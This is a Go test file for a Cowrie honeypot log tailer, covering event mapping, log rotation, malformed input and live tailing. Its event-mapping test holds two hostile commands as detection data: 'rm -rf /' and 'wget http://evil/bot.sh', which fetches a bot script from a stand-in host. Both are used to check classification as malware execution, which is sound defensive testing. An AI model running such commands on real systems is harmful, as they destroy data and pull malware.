package honeypotlog

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/lcalzada-xor/ztcore/internal/core/domain"
)

type eventSink struct {
	events []domain.HoneypotEvent
}

func (s *eventSink) handle(ctx context.Context, ev domain.HoneypotEvent) error {
	s.events = append(s.events, ev)
	return nil
}

func writeLines(t *testing.T, path string, lines ...string) {
	t.Helper()
	f, err := os.OpenFile(path, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o644)
	require.NoError(t, err)
	defer f.Close()
	for _, line := range lines {
		_, err := f.WriteString(line + "\n")
		require.NoError(t, err)
	}
}

func cowrieLine(eventid, srcIP string, args ...string) string {
	extra := ""
	if len(args) > 0 {
		extra = fmt.Sprintf(`,"input":%q`, args[0])
	}
	return fmt.Sprintf(`{"timestamp":"2026-03-01T10:00:00.000000Z","eventid":%q,"src_ip":%q%s}`, eventid, srcIP, extra)
}

func TestMapEventID(t *testing.T) {
	cases := []struct {
		eventid string
		command string
		want    domain.HoneypotEventKind
		ok      bool
	}{
		{"cowrie.login.success", "", domain.EventLoginSuccess, true},
		{"cowrie.login.failed", "", domain.EventLoginAttempt, true},
		{"cowrie.session.file_download", "", domain.EventFileDownload, true},
		{"cowrie.session.connect", "", domain.EventPortProbe, true},
		{"cowrie.command.input", "ls -la", domain.EventCommandExec, true},
		{"cowrie.command.input", "rm -rf /", domain.EventMalwareExec, true},
		{"cowrie.command.input", "wget http://evil/bot.sh", domain.EventMalwareExec, true},
		{"login_attempt", "", domain.EventLoginAttempt, true},
		{"cowrie.client.version", "", "", false},
	}
	for _, tc := range cases {
		kind, ok := MapEventID(tc.eventid, tc.command)
		assert.Equal(t, tc.ok, ok, tc.eventid)
		if tc.ok {
			assert.Equal(t, tc.want, kind, "%s %q", tc.eventid, tc.command)
		}
	}
}

func TestDrainReadsAppendedLines(t *testing.T) {
	path := filepath.Join(t.TempDir(), "cowrie.json")
	writeLines(t, path,
		cowrieLine("cowrie.login.success", "203.0.113.9"),
		cowrieLine("cowrie.session.connect", "203.0.113.10"),
	)

	sink := &eventSink{}
	tailer := NewTailer(path, sink.handle, WithReadFromStart())
	ctx := context.Background()

	tailer.drain(ctx)
	require.Len(t, sink.events, 2)
	assert.Equal(t, domain.EventLoginSuccess, sink.events[0].Kind)
	assert.Equal(t, "203.0.113.9", sink.events[0].SrcIP)
	assert.Equal(t, time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC), sink.events[0].Timestamp)

	writeLines(t, path, cowrieLine("cowrie.session.file_download", "203.0.113.9"))
	tailer.drain(ctx)
	require.Len(t, sink.events, 3)
	assert.Equal(t, domain.EventFileDownload, sink.events[2].Kind)
}

func TestMalformedLinesAreSkipped(t *testing.T) {
	path := filepath.Join(t.TempDir(), "cowrie.json")
	writeLines(t, path,
		cowrieLine("cowrie.login.success", "203.0.113.9"),
		`{"eventid": truncated garbage`,
		`{"timestamp":"2026-03-01T10:00:00Z","eventid":"cowrie.login.failed"}`, // no src_ip
		cowrieLine("cowrie.login.success", "999.999.1.1"),
		cowrieLine("cowrie.session.connect", "203.0.113.10"),
	)

	sink := &eventSink{}
	tailer := NewTailer(path, sink.handle, WithReadFromStart())
	tailer.drain(context.Background())

	require.Len(t, sink.events, 2)
	assert.Equal(t, domain.EventLoginSuccess, sink.events[0].Kind)
	assert.Equal(t, domain.EventPortProbe, sink.events[1].Kind)
}

func TestPartialLineWaitsForNewline(t *testing.T) {
	path := filepath.Join(t.TempDir(), "cowrie.json")
	full := cowrieLine("cowrie.login.success", "203.0.113.9")
	half := full[:20]

	require.NoError(t, os.WriteFile(path, []byte(half), 0o644))

	sink := &eventSink{}
	tailer := NewTailer(path, sink.handle, WithReadFromStart())
	ctx := context.Background()

	tailer.drain(ctx)
	assert.Empty(t, sink.events)

	writeLines(t, path, full[20:])
	tailer.drain(ctx)
	require.Len(t, sink.events, 1)
	assert.Equal(t, "203.0.113.9", sink.events[0].SrcIP)
}

func TestRotationReopensReplacementFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "cowrie.json")
	writeLines(t, path, cowrieLine("cowrie.login.success", "203.0.113.9"))

	sink := &eventSink{}
	tailer := NewTailer(path, sink.handle, WithReadFromStart())
	ctx := context.Background()
	tailer.drain(ctx)
	require.Len(t, sink.events, 1)

	// logrotate-style: the old file moves away, a fresh one replaces it.
	require.NoError(t, os.Rename(path, path+".1"))
	writeLines(t, path, cowrieLine("cowrie.session.connect", "203.0.113.10"))

	tailer.drain(ctx)
	require.Len(t, sink.events, 2)
	assert.Equal(t, domain.EventPortProbe, sink.events[1].Kind)
}

func TestTruncationResetsOffset(t *testing.T) {
	path := filepath.Join(t.TempDir(), "cowrie.json")
	writeLines(t, path,
		cowrieLine("cowrie.login.success", "203.0.113.9"),
		cowrieLine("cowrie.login.success", "203.0.113.9"),
	)

	sink := &eventSink{}
	tailer := NewTailer(path, sink.handle, WithReadFromStart())
	ctx := context.Background()
	tailer.drain(ctx)
	require.Len(t, sink.events, 2)

	// Truncate-in-place rotation: same inode, shorter file.
	require.NoError(t, os.WriteFile(path, nil, 0o644))
	writeLines(t, path, cowrieLine("cowrie.session.connect", "203.0.113.10"))

	tailer.drain(ctx)
	require.Len(t, sink.events, 3)
	assert.Equal(t, domain.EventPortProbe, sink.events[2].Kind)
}

func TestExistingContentNotReplayedByDefault(t *testing.T) {
	path := filepath.Join(t.TempDir(), "cowrie.json")
	writeLines(t, path, cowrieLine("cowrie.login.success", "203.0.113.9"))

	sink := &eventSink{}
	tailer := NewTailer(path, sink.handle)
	ctx := context.Background()

	tailer.drain(ctx)
	assert.Empty(t, sink.events, "pre-existing history was ingested by a previous run")

	writeLines(t, path, cowrieLine("cowrie.session.connect", "203.0.113.10"))
	tailer.drain(ctx)
	require.Len(t, sink.events, 1)
	assert.Equal(t, domain.EventPortProbe, sink.events[0].Kind)
}

func TestRepeatedLoginEscalation(t *testing.T) {
	path := filepath.Join(t.TempDir(), "cowrie.json")
	for i := 0; i < 5; i++ {
		writeLines(t, path, cowrieLine("cowrie.login.failed", "203.0.113.9"))
	}

	sink := &eventSink{}
	tailer := NewTailer(path, sink.handle, WithReadFromStart())
	tailer.drain(context.Background())

	require.Len(t, sink.events, 5)
	for i := 0; i < 4; i++ {
		assert.Equal(t, domain.EventLoginAttempt, sink.events[i].Kind)
	}
	assert.Equal(t, domain.EventRepeatedLogins, sink.events[4].Kind)
}

func TestMissingFileIsNotAnError(t *testing.T) {
	path := filepath.Join(t.TempDir(), "cowrie.json")

	sink := &eventSink{}
	tailer := NewTailer(path, sink.handle, WithReadFromStart())
	ctx := context.Background()

	tailer.drain(ctx)
	assert.Empty(t, sink.events)

	// The honeypot comes up later; the tailer picks the file up.
	writeLines(t, path, cowrieLine("cowrie.login.success", "203.0.113.9"))
	tailer.drain(ctx)
	require.Len(t, sink.events, 1)
}

// lockedSink collects events across Run's goroutine.
type lockedSink struct {
	mu     sync.Mutex
	events []domain.HoneypotEvent
}

func (s *lockedSink) handle(ctx context.Context, ev domain.HoneypotEvent) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.events = append(s.events, ev)
	return nil
}

func (s *lockedSink) count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.events)
}

func (s *lockedSink) snapshot() []domain.HoneypotEvent {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]domain.HoneypotEvent(nil), s.events...)
}

func TestRunTailsLiveAppends(t *testing.T) {
	path := filepath.Join(t.TempDir(), "cowrie.json")
	writeLines(t, path, cowrieLine("cowrie.login.success", "203.0.113.40"))

	sink := &lockedSink{}
	tailer := NewTailer(path, sink.handle,
		WithReadFromStart(),
		WithPollInterval(25*time.Millisecond))

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- tailer.Run(ctx) }()

	require.Eventually(t, func() bool { return sink.count() == 1 },
		2*time.Second, 10*time.Millisecond, "existing line must replay on start")

	writeLines(t, path, cowrieLine("cowrie.session.connect", "203.0.113.41"))

	// The tight poll cadence picks the append up even where the
	// directory watch is unavailable.
	require.Eventually(t, func() bool { return sink.count() == 2 },
		2*time.Second, 10*time.Millisecond)

	cancel()
	require.ErrorIs(t, <-done, context.Canceled)

	events := sink.snapshot()
	assert.Equal(t, domain.EventLoginSuccess, events[0].Kind)
	assert.Equal(t, domain.EventPortProbe, events[1].Kind)
}
